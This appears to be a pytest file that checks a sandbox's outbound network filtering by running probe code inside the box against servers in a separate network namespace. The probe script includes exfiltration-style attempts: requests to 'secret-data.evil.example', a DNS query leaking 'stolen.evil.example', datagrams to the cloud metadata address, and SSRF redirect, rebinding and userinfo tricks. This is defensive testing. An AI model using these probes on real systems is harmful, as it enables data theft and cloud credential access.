"""From real boxes, by both ways, into a real network: what arrives out there is what was permitted, and nothing else.

The test makes two network namespaces, joined by a cable. The runner is in one, with the host's own resolver and
sockets; in the other real servers (web, TLS, DNS, datagrams) listen at every address there is, the metadata service's
and the LAN's included, so that whatever gets out arrives there and is seen.
"""

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from sandbox.outcome import RunResult
from sandbox.runner import Runner
from sandbox.spec import NetworkMode
from tests.sandbox.conftest import PATIENCE, Place
from tests.sandbox.disguises import DISGUISES
from tests.sandbox.egress_boxes import networked, networked_request, words_of
from tests.sandbox.egress_world import OTHER_PUBLIC, PUBLIC, PUBLIC_IPV6, Authority, in_own_network
from tests.sandbox.namespaces import needs_namespaces

pytestmark = [pytest.mark.gvisor, needs_namespaces]

SERVERS = Path(__file__).with_name("everywhere.py")
RESOLVER = "10.77.0.53"
NAMES = {
    "web.example": [[PUBLIC]],
    "six.example": [[PUBLIC_IPV6]],
    "other.example": [[OTHER_PUBLIC]],
    "metadata.example": [["169.254.169.254"]],
    "lan.example": [["10.20.30.40"]],
    "rebind.example": [[PUBLIC], ["169.254.169.254"], ["127.0.0.1"]],
}
PAGES = {
    "/page": {"head": "200 OK", "body": "found"},
    "/away": {"head": "302 Found\r\nLocation: http://169.254.169.254/latest/", "body": ""},
}
CABLE = """
ip link add inside type veth peer name outside netns {outside}
ip address add 10.77.0.2/24 dev inside
ip -6 address add fd77::2/64 dev inside nodad
ip link set inside up
nsenter --net=/proc/{outside}/ns/net sh -ec '
    ip link set lo up
    ip address add 10.77.0.1/24 dev outside
    ip address add {resolver} dev lo
    ip -6 address add fd77::1/64 dev outside nodad
    ip link set outside up
    ip route add local 0.0.0.0/0 dev lo table main
    ip -6 route add local ::/0 dev lo table main
    echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter
    echo 0 > /proc/sys/net/ipv4/conf/outside/rp_filter'
ip route add default via 10.77.0.1
ip -6 route add default via fd77::1
"""


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return Authority.made(tmp_path_factory.mktemp("authority"), "web.example", "other.example")


@dataclass(frozen=True, slots=True, kw_only=True)
class Outside:
    """The other end of the cable."""

    arrived: list[dict[str, Any]]
    """All that came, in order; whole once the servers are gone."""

    def of_kind(self, kind: str, *fields: str) -> set[Any]:
        found = [tuple(one[name] for name in fields) for one in self.arrived if one["kind"] == kind]
        return {one[0] if len(one) == 1 else one for one in found}


@contextmanager
def everywhere(authority: Authority) -> Iterator[Outside]:
    """Servers at every address, at the other end of a cable from the calling thread's network namespace."""
    told = {
        "names": NAMES,
        "pages": PAGES,
        "certificate": str(authority.certificate),
        "key": str(authority.key),
        "resolver": RESOLVER,
    }
    outside = Outside(arrived=[])
    command = ("unshare", "--net", sys.executable, "-I", str(SERVERS))
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as servers:
        assert servers.stdin is not None
        assert servers.stdout is not None
        try:
            _wait_for_its_own_network(servers.pid)
            subprocess.run(["/bin/sh", "-ec", CABLE.format(outside=servers.pid, resolver=RESOLVER)], check=True)
            servers.stdin.write(json.dumps(told) + "\n")
            servers.stdin.flush()
            assert json.loads(servers.stdout.readline()) == {"kind": "ready"}
            yield outside
        finally:
            servers.kill()
            outside.arrived.extend(map(json.loads, servers.stdout))


def _wait_for_its_own_network(process_id: int) -> None:
    own = Path("/proc/thread-self/ns/net").readlink()
    while Path(f"/proc/{process_id}/ns/net").readlink() == own:
        os.sched_yield()


@dataclass(frozen=True, slots=True, kw_only=True)
class Across:
    """A place whose boxes reach a network that is everywhere, by one way."""

    place: Place
    way: NetworkMode
    folder: Path
    authority: Authority

    def run(self, code: str, *allowed: str, private: bool = False, **values: object) -> tuple[RunResult, Outside]:
        async def work() -> tuple[RunResult, Outside]:
            request = networked_request(code, limits=networked(*allowed, private=private, **values))
            with everywhere(self.authority) as outside:
                async with Runner(replace(self.place.equipment, network_way=self.way)) as runner:
                    result = await runner.run(request)
                await asyncio.sleep(0.3 * PATIENCE)  # what was sent by then has arrived
            return result, outside

        return in_own_network(self.folder, work, resolver=RESOLVER)


@pytest.fixture(params=[NetworkMode.PROXY, NetworkMode.NAMESPACE], ids=lambda way: way.value)
def across(request: pytest.FixtureRequest, place: Place, tmp_path: Path, authority: Authority) -> Across:
    return Across(place=place, way=request.param, folder=tmp_path, authority=authority)


EVERYTHING = """
import socket, ssl, urllib.error, urllib.request
trusting = ssl.create_default_context(cadata=AUTHORITY)
def get(url):
    try:
        with urllib.request.urlopen(url, context=trusting, timeout=5) as answer:
            print(url, answer.read().decode())
    except Exception:
        pass
for url in ("http://web.example/page", "https://web.example/page", "http://six.example/page"):
    get(url)
for url in ("http://web.example:8080/page", "https://other.example/page", "http://other.example/page",
            "http://web.example/away", "http://metadata.example/", "http://lan.example/page", "http://10.20.30.40/page",
            "http://rebind.example/page", "http://rebind.example/page", "http://rebind.example/page",
            "http://secret-data.evil.example/", "http://user@169.254.169.254/", "http://web.example@169.254.169.254/"):
    get(url)
for host in DISGUISES:
    get(f"http://{host}/page")
    if ":" in host and "[" not in host:
        get(f"http://[{host}]/page")
def through(host, port):
    import os
    if "https_proxy" not in os.environ:
        return socket.create_connection((host, port), timeout=5)
    one = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    one.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    if b" 200 " not in one.recv(1000):
        raise OSError
    return one
for asked in ("web.example", "other.example"):
    try:
        trusting.wrap_socket(through("web.example", 443), server_hostname=asked).close()
        print("TLS for", asked)
    except OSError:
        print("no TLS for", asked)
question = b"\\x07\\x07\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x06stolen\\x04evil\\x07example\\x00\\x00\\x01\\x00\\x01"
for host, port, said in (("PUBLIC", 9999, b"stolen"), ("169.254.169.254", 9999, b"stolen"), ("8.8.8.8", 53, question),
                         ("RESOLVER", 53, question), ("PUBLIC_IPV6", 9999, b"stolen")):
    try:
        one = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
        one.sendto(said, (host, port))
    except OSError:
        pass
for host, port in (("PUBLIC", 8080), ("169.254.169.254", 80), ("10.77.0.1", 80), ("OTHER", 443), ("PUBLIC_IPV6", 443)):
    try:
        one = socket.create_connection((host, port), timeout=5)
        one.sendall(b"GET /direct HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        print("direct", one.recv(100))
    except OSError:
        pass
"""
PRIVATE_ONES = """
import urllib.request
for url in ("http://169.254.169.254/page", "http://lan.example/page", "http://10.20.30.41/page"):
    try: print(urllib.request.urlopen(url, timeout=5).read().decode())
    except OSError: print("not reached")
"""
REACHED = (
    "http://web.example/page found",
    "https://web.example/page found",
    "http://six.example/page found",
    "http://rebind.example/page found",
    "TLS for web.example",
    "no TLS for other.example",
)
PERMITTED = (
    "web.example:80",
    "web.example:443",
    "six.example:80",
    "rebind.example:80",
    "metadata.example",
    "lan.example",
)
PRIVATE_AND_LISTED = ("169.254.0.0/16", "10.0.0.0/8", "127.0.0.1")


def test_only_what_is_permitted_arrives_anywhere(across: Across) -> None:
    code = EVERYTHING
    words = {"PUBLIC_IPV6": PUBLIC_IPV6, "PUBLIC": PUBLIC, "OTHER": OTHER_PUBLIC, "RESOLVER": RESOLVER}
    words |= {"AUTHORITY": repr(across.authority.certificate.read_text()), "DISGUISES": repr([*DISGUISES.values()])}
    for word, value in words.items():
        code = code.replace(word, value)

    result, outside = across.run(code, *PERMITTED, *PRIVATE_AND_LISTED, max_runtime_seconds=60 * PATIENCE)

    told = words_of(result)
    assert dict.fromkeys(result.output.splitlines()) == dict.fromkeys(REACHED), told
    assert outside.of_kind("connection", "address", "port") == {(PUBLIC, 80), (PUBLIC, 443), (PUBLIC_IPV6, 80)}
    assert outside.of_kind("name", "name") == {name.partition(":")[0] for name in PERMITTED}
    assert outside.of_kind("tls", "name") == {"web.example"}
    assert outside.of_kind("datagram", "said") == set()
    assert outside.of_kind("request", "path") == {"/page", "/away"}
    assert "web.example:443 reached" in told
    for refused in ("metadata.example", "lan.example", "169.254.169.254:80", "other.example"):
        assert any(one.startswith(refused) and " refused: " in one for one in told), told


def test_lan_and_metadata_are_reached_where_private_destinations_are_allowed_and_listed(across: Across) -> None:
    result, outside = across.run(PRIVATE_ONES, "169.254.169.254", "lan.example", "10.20.30.40", private=True)

    assert result.output == "found\nfound\nnot reached\n", words_of(result)
    assert outside.of_kind("connection", "address", "port") == {("169.254.169.254", 80), ("10.20.30.40", 80)}
